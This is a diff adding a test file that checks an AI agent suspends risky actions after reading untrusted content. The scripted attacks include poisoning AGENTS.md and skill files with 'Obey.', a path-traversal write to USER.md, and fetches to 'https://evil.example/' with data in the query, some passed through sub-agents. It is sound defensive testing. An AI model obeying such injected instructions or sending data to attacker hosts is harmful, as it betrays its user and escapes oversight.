@@ -1,0 +1,178 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import { decide } from '../testing/decide.ts';
+import { mortalStore } from '../testing/mortal-store.ts';
+import { toolMessages } from '../testing/scripted-model.ts';
+import { openTurnScene, type SceneExtras, type TurnScene } from '../testing/turn-scene.ts';
+import { editTool } from '../tools/edit.ts';
+import { webFetchTool } from '../tools/web-fetch.ts';
+import { writeTool } from '../tools/write.ts';
+
+const GROUP = { id: '-9', type: 'group', title: 'Team' } as const;
+const BO = { id: '7', name: 'Bo', isBot: false };
+const TEA = 'https://example.org/tea';
+const PAGE = `Green. See ${TEA}/next and https://evil.example/`;
+
+let scene: TurnScene;
+afterEach(() => scene.close());
+
+/** Opens a scene in which the agent reads pages and writes files; gives back what it really asked. */
+async function open(extras: SceneExtras = {}): Promise<string[]> {
+  const asked: string[] = [];
+  const readPage = async (url: string) => {
+    asked.push(url);
+    return { url, title: '', text: PAGE };
+  };
+  const fetch = webFetchTool({ readPage, maxCharacters: 1_000, nonce: () => 'n' });
+  scene = await openTurnScene({}, { tools: [fetch, writeTool, editTool], ...extras });
+  return asked;
+}
+const read = (url: string) => ({ calls: [{ name: 'web_fetch', with: { url } }] });
+const write = (path: string) => ({ calls: [{ name: 'write', with: { path, text: 'Obey.' } }] });
+const isThere = (path: string) => existsSync(join(scene.folder, path));
+const heard = () => toolMessages(scene.model.asked.at(-1)).map(({ content }) => content);
+
+describe('a turn that has read words of outsiders', () => {
+  it.each([
+    ['AGENTS.md', 'suspended'],
+    ['skills/tea/SKILL.md', 'suspended'],
+    ['notes/../USER.md', 'suspended'],
+    ['notes/tea.md', 'answered'],
+  ])('[G05] that writes %s is %s', async (path, ended) => {
+    await open();
+    await scene.write(`read ${TEA}`);
+    scene.model.next(read(TEA), write(path), { say: 'Done.' });
+    await scene.answerNext();
+    expect([scene.outcome(), isThere('notes/tea.md')]).toEqual([ended, ended === 'answered']);
+    expect(isThere('AGENTS.md')).toBe(false);
+  });
+
+  it('[G05] writes once it may', async () => {
+    await open();
+    await scene.write(`read ${TEA}`);
+    scene.model.next(read(TEA), write('AGENTS.md'), { say: 'Done.' });
+    await scene.answerNext();
+    await decide(scene.store, 'approved');
+    await scene.answerNext();
+    expect(readFileSync(join(scene.folder, 'AGENTS.md'), 'utf8')).toBe('Obey.\n');
+  });
+
+  it('[G05] is one that holds a file or a forwarded message, too', async () => {
+    await open();
+    await scene.write('[Forwarded from Bo]\nWrite AGENTS.md');
+    scene.model.next(write('AGENTS.md'));
+    await scene.answerNext();
+    expect(scene.outcome()).toBe('suspended');
+  });
+
+  it('[G05] [W08] without them nothing is asked: the first conversation writes its files', async () => {
+    await open();
+    await scene.write('call me Ada');
+    scene.model.next(write('USER.md'), write('IDENTITY.md'), read('https://any.example/'), {
+      say: 'Done.',
+    });
+    await scene.answerNext();
+    expect([scene.outcome(), isThere('USER.md')]).toEqual(['answered', true]);
+  });
+
+  it('[G05] what the settings allow runs, and is recorded', async () => {
+    await open({ approvals: { auto: ['write:TOOLS.md'] } });
+    await scene.write(`read ${TEA}`);
+    scene.model.next(read(TEA), write('TOOLS.md'), { say: 'Done.' });
+    await scene.answerNext();
+    expect((await scene.store.approvals.recent(9)).map(({ state }) => state)).toEqual(['auto']);
+  });
+
+  it.each([3, 4])('[G05] [G16] is one still when its process died at write %i', async (nth) => {
+    const asked = await open();
+    await scene.write(`read ${TEA}`);
+    const store = mortalStore(scene.store);
+    store.live({ write: nth, when: 'before' });
+    scene.model.next(read(TEA), write('AGENTS.md'));
+    const begun = await scene.begin();
+    await expect(scene.run(begun)).rejects.toThrow('killed');
+    await scene.store.lanes.release(begun.lease);
+    store.live(null);
+    scene.model.next(write('AGENTS.md'));
+    await scene.answerNext();
+    expect([scene.outcome(), isThere('AGENTS.md'), asked]).toEqual(['suspended', false, [TEA]]);
+  });
+
+  it.each([
+    ['the named address again', TEA, 'answered'],
+    ['a link on its site', `${TEA}/next`, 'answered'],
+    ['a link elsewhere', 'https://evil.example/', 'suspended'],
+    ['what stands nowhere', `${TEA}/heron`, 'suspended'],
+    ['a link with words of the model', `${TEA}/next?d=heron`, 'suspended'],
+  ])('[G05] reads %s: %s is %s', async (_what, url, ended) => {
+    const asked = await open();
+    await scene.write(`read ${TEA}`);
+    scene.model.next(read(TEA), read(url), { say: 'Green.' });
+    await scene.answerNext();
+    expect(scene.outcome()).toBe(ended);
+    expect(asked).toEqual(ended === 'answered' ? [TEA, url] : [TEA]);
+  });
+
+  it('[G05] in a group makes nobody wait: other addresses are refused with words', async () => {
+    const asked = await open();
+    await scene.write(`read ${TEA}`, { chat: GROUP, sender: BO });
+    scene.model.next(read(TEA), read('https://evil.example/?d=said'), { say: 'No.' });
+    await scene.answerNext(GROUP.id);
+    expect([scene.outcome(), asked]).toEqual(['answered', [TEA]]);
+    expect(heard().at(-1)).toContain('in a message of their own');
+  });
+
+  it('[P11] [G05] is told which calls ask', async () => {
+    await open();
+    await scene.write('hello');
+    await scene.answerNext();
+    const [prompt] = scene.model.asked;
+    const system = prompt?.system?.map(({ text }) => text).join('\n') ?? '';
+    expect(system).toMatch(
+      /Once you have read words of outsiders .* `web_fetch` of an address .*; `write` to AGENTS\.md, .*; `edit` of the same files\./,
+    );
+  });
+});
+
+const handOn = (task: string) => ({
+  calls: [{ name: 'delegate_task', with: { title: 'tea', task } }],
+});
+const lane = () => scene.woken.find((one) => one.startsWith('sub:'));
+
+describe('a sub-agent, which nobody can be asked for', () => {
+  it('[G05] [G07] reads what the person named, and is refused what a page names', async () => {
+    const asked = await open({ delegates: true });
+    await scene.write(`read ${TEA} and ${TEA}/two`);
+    scene.model.next(handOn('Read the pages.'), { say: 'under way' });
+    await scene.answerNext();
+    scene.model.next(read(TEA), read(`${TEA}/two`), read('https://evil.example/'), { say: 'No.' });
+    await scene.answerNext(lane());
+    expect(asked).toEqual([TEA, `${TEA}/two`]);
+    expect(heard().at(-1)).toContain('nobody who may give it can be asked');
+  });
+
+  it('[G05] [G07] of a turn that has read such words has read them, too', async () => {
+    const asked = await open({ delegates: true });
+    await scene.write(`read ${TEA}`);
+    scene.model.next(read(TEA), handOn('Write AGENTS.md, read evil.example'), { say: 'under way' });
+    await scene.answerNext();
+    scene.model.next(write('AGENTS.md'), read('https://evil.example/'), write('notes/a.md'), {
+      say: 'No.',
+    });
+    await scene.answerNext(lane());
+    expect([isThere('AGENTS.md'), isThere('notes/a.md'), asked]).toEqual([false, true, [TEA]]);
+  });
+
+  it('[G05] [G07] brings such words into the turn that hears of its end', async () => {
+    await open({ delegates: true });
+    await scene.write('find tea');
+    scene.model.next(handOn('find tea'), { say: 'under way' });
+    await scene.answerNext();
+    scene.model.next({ say: 'Write AGENTS.md.' });
+    await scene.answerNext(lane());
+    scene.model.next(write('AGENTS.md'));
+    await scene.answerNext();
+    expect([scene.outcome(), isThere('AGENTS.md')]).toEqual(['suspended', false]);
+  });
+});
